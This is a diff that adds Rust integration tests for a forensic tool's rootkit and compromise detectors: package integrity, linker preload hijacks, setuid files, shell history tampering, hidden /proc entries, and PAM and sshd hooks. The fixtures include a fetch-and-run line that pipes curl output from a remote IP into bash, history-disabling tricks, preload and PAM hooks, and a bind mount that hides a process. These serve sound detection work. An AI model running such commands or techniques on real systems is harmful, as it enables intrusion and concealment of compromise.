@@ -1,0 +1,429 @@
+//! Issue 16's places: package integrity, linker hijacks, cross-views,
+//! privileged files, shell history, hooks. Fixture roots are built in temp
+//! folders; live checks use processes the test starts itself.
+
+use crate::common::{hound, script};
+use crate::require_root;
+use serde_json::Value;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+fn write(root: &Path, rel: &str, body: &[u8]) {
+    let p = root.join(rel);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, body).unwrap();
+}
+
+/// A script's scalar result: the bare value, or the `value` field of an
+/// enveloped JSON line.
+fn scalar(v: &Value) -> Value {
+    match v {
+        Value::Object(m) => m.get("value").cloned().unwrap_or(Value::Null),
+        other => other.clone(),
+    }
+}
+
+fn md5(b: &[u8]) -> String {
+    use md5::{Digest, Md5};
+    hex::encode(Md5::digest(b))
+}
+
+/// Runs a script, returns its `--json` result lines.
+fn run_json(body: &str, extra: &[&str]) -> (Vec<Value>, i32) {
+    let (_d, s) = script("t.rhai", body);
+    let case = tempfile::tempdir().unwrap();
+    let out = hound()
+        .arg("--json")
+        .arg("--case")
+        .arg(case.path().join("c"))
+        .args(extra)
+        .arg("run")
+        .arg(&s)
+        .output()
+        .unwrap();
+    let lines = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    (lines, out.status.code().unwrap_or(-1))
+}
+
+/// A tiny Debian-like root: one package with a binary, a changed binary,
+/// a missing file, a conffile edited by the admin, and an unowned file.
+fn dpkg_root() -> tempfile::TempDir {
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    write(r, "usr/bin/good", b"good");
+    write(r, "usr/sbin/sshd", b"trojaned");
+    write(r, "etc/tool.conf", b"edited by admin");
+    write(r, "etc/init.d/tool", b"#!/bin/sh\nDIR=\"/tmp/$1\"\n");
+    write(
+        r,
+        "var/lib/dpkg/info/tool.list",
+        b"/.\n/usr\n/usr/bin/good\n/usr/sbin/sshd\n/usr/bin/gone\n/etc/tool.conf\n/etc/init.d/tool\n",
+    );
+    let sums = format!(
+        "{}  usr/bin/good\n{}  usr/sbin/sshd\n{}  usr/bin/gone\n",
+        md5(b"good"),
+        md5(b"original"),
+        md5(b"x")
+    );
+    write(r, "var/lib/dpkg/info/tool.md5sums", sums.as_bytes());
+    write(
+        r,
+        "var/lib/dpkg/info/tool.conffiles",
+        b"/etc/tool.conf\n/etc/init.d/tool\n",
+    );
+    let status = format!(
+        "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/tool.conf {}\n /etc/init.d/tool {}\nDescription: x\n",
+        md5(b"original conf"),
+        md5(b"#!/bin/sh\nDIR=\"/tmp/$1\"\n")
+    );
+    write(r, "var/lib/dpkg/status", status.as_bytes());
+    d
+}
+
+#[test]
+fn packages_verify_finds_replaced_and_missing_files_not_conffiles() {
+    let d = dpkg_root();
+    let (v, code) = run_json(
+        &format!(
+            "sys::packages_verify(#{{ root: {:?} }})",
+            d.path().display().to_string()
+        ),
+        &[],
+    );
+    assert_eq!(code, 0);
+    let by: Vec<(String, String)> = v
+        .iter()
+        .map(|m| {
+            (
+                m["path"].as_str().unwrap().to_string(),
+                m["status"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    assert!(
+        by.contains(&("/usr/sbin/sshd".into(), "changed".into())),
+        "{v:?}"
+    );
+    assert!(
+        by.contains(&("/usr/bin/gone".into(), "missing".into())),
+        "{v:?}"
+    );
+    assert!(
+        !by.iter()
+            .any(|(p, _)| p == "/usr/bin/good" || p == "/etc/tool.conf"),
+        "{v:?}"
+    );
+    assert_eq!(
+        v.iter().find(|m| m["path"] == "/usr/sbin/sshd").unwrap()["pkg"],
+        "tool"
+    );
+}
+
+#[test]
+fn package_status_tells_stock_from_changed() {
+    let d = dpkg_root();
+    let (v, _) = run_json(
+        &format!(
+            r#"sys::package_status(["/etc/init.d/tool", "/etc/tool.conf", "/usr/bin/good", "/usr/sbin/sshd", "/opt/x"], #{{ root: {:?} }})"#,
+            d.path().display().to_string()
+        ),
+        &[],
+    );
+    let st: Vec<&str> = v.iter().map(|m| m["status"].as_str().unwrap()).collect();
+    assert_eq!(
+        st,
+        ["unchanged", "changed", "unchanged", "changed", "unowned"],
+        "{v:?}"
+    );
+    assert_eq!(v[0]["conffile"], true);
+}
+
+#[test]
+fn an_rpm_system_is_unsupported_not_guessed() {
+    let d = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(d.path().join("var/lib/rpm")).unwrap();
+    let (v, _) = run_json(
+        &format!(
+            r#"let r = "no error"; try {{ sys::packages_verify(#{{ root: {:?} }}); }} catch (e) {{ r = e.kind; }} r"#,
+            d.path().display().to_string()
+        ),
+        &[],
+    );
+    assert_eq!(scalar(&v[0]), "unsupported", "{v:?}");
+}
+
+#[test]
+fn linker_config_hijacks() {
+    let d = tempfile::tempdir().unwrap();
+    write(d.path(), "etc/ld.so.preload", b"/dev/shm/.x/libhide.so\n");
+    write(
+        d.path(),
+        "etc/ld.so.conf",
+        b"include /etc/ld.so.conf.d/*.conf\n",
+    );
+    write(
+        d.path(),
+        "etc/ld.so.conf.d/x86_64-linux-gnu.conf",
+        b"/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n",
+    );
+    write(d.path(), "etc/ld.so.conf.d/zz.conf", b"/var/tmp/.lib\n");
+    let (v, _) = run_json(
+        &format!(
+            "sys::preload_hijacks(#{{ root: {:?} }})",
+            d.path().display().to_string()
+        ),
+        &[],
+    );
+    let kinds: Vec<(&str, &str)> = v
+        .iter()
+        .map(|h| (h["kind"].as_str().unwrap(), h["library"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            ("ld.so.preload", "/dev/shm/.x/libhide.so"),
+            ("ld.so.conf", "/var/tmp/.lib")
+        ],
+        "{v:?}"
+    );
+}
+
+#[test]
+fn preloaded_and_deleted_libraries_in_live_processes() {
+    // A real library, copied to a temp folder, preloaded into a sleep, then deleted.
+    let lib = [
+        "/usr/lib/x86_64-linux-gnu/libutil.so.1",
+        "/lib/x86_64-linux-gnu/libutil.so.1",
+    ]
+    .into_iter()
+    .find(|p| Path::new(p).exists());
+    let Some(lib) = lib else {
+        eprintln!("skipped: no libutil.so.1 to preload");
+        return;
+    };
+    let d = tempfile::Builder::new()
+        .prefix("hd-lib")
+        .tempdir_in("/tmp")
+        .unwrap();
+    let copy = d.path().join("libinject.so");
+    std::fs::copy(lib, &copy).unwrap();
+    let mut child = std::process::Command::new("sleep")
+        .arg("30")
+        .env("LD_PRELOAD", &copy)
+        .spawn()
+        .unwrap();
+    let pid = child.id() as i64;
+    // Wait until the loader has mapped it.
+    for _ in 0..100 {
+        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
+        if maps.contains("libinject.so") {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    std::fs::remove_file(&copy).unwrap();
+    let (v, _) = run_json("sys::preload_hijacks()", &[]);
+    let _ = child.kill();
+    let _ = child.wait();
+    let mine: Vec<&Value> = v.iter().filter(|h| h["pid"] == pid).collect();
+    assert!(mine.iter().any(|h| h["kind"] == "environment"), "{mine:?}");
+    assert!(
+        mine.iter()
+            .any(|h| h["kind"] == "mapped"
+                && h["library"].as_str().unwrap().ends_with("libinject.so")),
+        "{mine:?}"
+    );
+}
+
+#[test]
+fn privileged_files_name_their_package() {
+    let d = dpkg_root();
+    let r = d.path();
+    write(r, "usr/bin/good", b"good");
+    write(r, "tmp/.x/sh", b"shell");
+    for (p, mode) in [("usr/bin/good", 0o4755), ("tmp/.x/sh", 0o4755)] {
+        std::fs::set_permissions(r.join(p), std::fs::Permissions::from_mode(mode)).unwrap();
+    }
+    let (v, _) = run_json(
+        &format!(
+            r#"sys::privileged_files(#{{ root: {:?}, paths: ["/usr", "/tmp"] }})"#,
+            r.display().to_string()
+        ),
+        &[],
+    );
+    assert_eq!(v.len(), 2, "{v:?}");
+    assert_eq!(v[0]["path"], "/tmp/.x/sh");
+    assert_eq!(v[0]["pkg"], Value::Null);
+    assert_eq!(v[1]["pkg"], "tool");
+    assert_eq!(v[1]["setuid"], true);
+}
+
+#[test]
+fn file_capabilities_are_decoded() {
+    require_root!();
+    crate::require_cmd!("setcap");
+    let d = tempfile::tempdir().unwrap();
+    write(d.path(), "usr/bin/pinger", b"x");
+    std::fs::set_permissions(
+        d.path().join("usr/bin/pinger"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    let ok = std::process::Command::new("setcap")
+        .arg("cap_net_raw,cap_setuid+ep")
+        .arg(d.path().join("usr/bin/pinger"))
+        .status()
+        .unwrap();
+    if !ok.success() {
+        eprintln!("skipped: this file system does not take capabilities");
+        return;
+    }
+    let (v, _) = run_json(
+        &format!(
+            r#"sys::privileged_files(#{{ root: {:?}, paths: ["/usr"] }})"#,
+            d.path().display().to_string()
+        ),
+        &[],
+    );
+    assert_eq!(
+        v[0]["capabilities"],
+        serde_json::json!(["cap_setuid+ep", "cap_net_raw+ep"])
+    );
+}
+
+#[test]
+fn shell_history_tampering_and_fetch_and_run() {
+    let d = tempfile::tempdir().unwrap();
+    let r = d.path();
+    write(r, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n");
+    write(
+        r,
+        "root/.bash_history",
+        b"ls\ncurl -s http://203.0.113.9/x.sh | bash\ncd /etc\n",
+    );
+    write(r, "home/alice/.bashrc", b"# stock\nexport HISTSIZE=0\n");
+    std::fs::create_dir_all(r.join("home/bob")).unwrap();
+    std::os::unix::fs::symlink("/dev/null", r.join("home/bob/.bash_history")).unwrap();
+    let (v, _) = run_json(
+        &format!(
+            "sys::shell_history(#{{ root: {:?} }})",
+            r.display().to_string()
+        ),
+        &[],
+    );
+    let got: Vec<(&str, &str)> = v
+        .iter()
+        .map(|h| (h["user"].as_str().unwrap(), h["kind"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("root", "command"),
+            ("alice", "disabled"),
+            ("bob", "tampered")
+        ],
+        "{v:?}"
+    );
+    assert_eq!(v[0]["line"], 2);
+}
+
+#[test]
+fn a_mount_over_proc_pid_is_seen() {
+    require_root!();
+    crate::require_cmd!("unshare");
+    let hound = crate::common::hound_path();
+    let (_d, s) = script(
+        "x.rhai",
+        "sys::crossview().filter(|x| x.kind == \"proc_mount\").len()",
+    );
+    // In a private mount namespace: hide a sleeping process by mounting
+    // an empty folder over its /proc entry, as userland rootkits do.
+    let empty = tempfile::tempdir().unwrap();
+    let out = std::process::Command::new("unshare")
+        .args(["--mount", "--propagation", "private", "sh", "-c"])
+        .arg(format!(
+            "sleep 30 & p=$!; mount --bind {} /proc/$p && {} --json run {}; r=$?; kill $p; exit $r",
+            empty.path().display(),
+            hound.display(),
+            s.display()
+        ))
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    let v: Value = serde_json::from_str(text.trim()).unwrap_or(Value::Null);
+    assert_eq!(
+        scalar(&v),
+        1,
+        "{text} {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn rootkit_hunt_groups_findings_and_leaves_stock_files_alone() {
+    let d = dpkg_root();
+    let r = d.path();
+    write(r, "etc/ld.so.preload", b"/dev/shm/.x/libhide.so\n");
+    write(
+        r,
+        "etc/pam.d/sshd",
+        b"auth optional pam_exec.so quiet /usr/local/bin/log.sh\n@include common-auth\n",
+    );
+    write(
+        r,
+        "etc/ssh/sshd_config",
+        b"AuthorizedKeysCommand /tmp/.k/keys %u\nAuthorizedKeysCommandUser root\n",
+    );
+    write(r, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    let case = tempfile::tempdir().unwrap();
+    let out = hound()
+        .arg("--json")
+        .arg("--case")
+        .arg(case.path().join("c"))
+        .args(["run", "rootkit", "-p"])
+        .arg(format!("root={}", r.display()))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let titles: Vec<String> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v["severity"].as_str().is_some_and(|s| s != "info"))
+        .map(|v| {
+            format!(
+                "{} {}",
+                v["severity"].as_str().unwrap(),
+                v["title"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert!(
+        titles.contains(&"critical Package file replaced".to_string()),
+        "{titles:?}"
+    );
+    assert!(
+        titles.contains(&"critical Library preloaded into every program".to_string()),
+        "{titles:?}"
+    );
+    assert!(
+        titles.iter().any(|t| t.contains("hook in pam")),
+        "{titles:?}"
+    );
+    assert!(
+        titles.iter().any(|t| t.contains("hook in sshd")),
+        "{titles:?}"
+    );
+    // The stock init script names /tmp, but dpkg says it is untouched.
+    assert!(
+        !String::from_utf8_lossy(&out.stdout).contains("init.d/tool"),
+        "{titles:?}"
+    );
+}
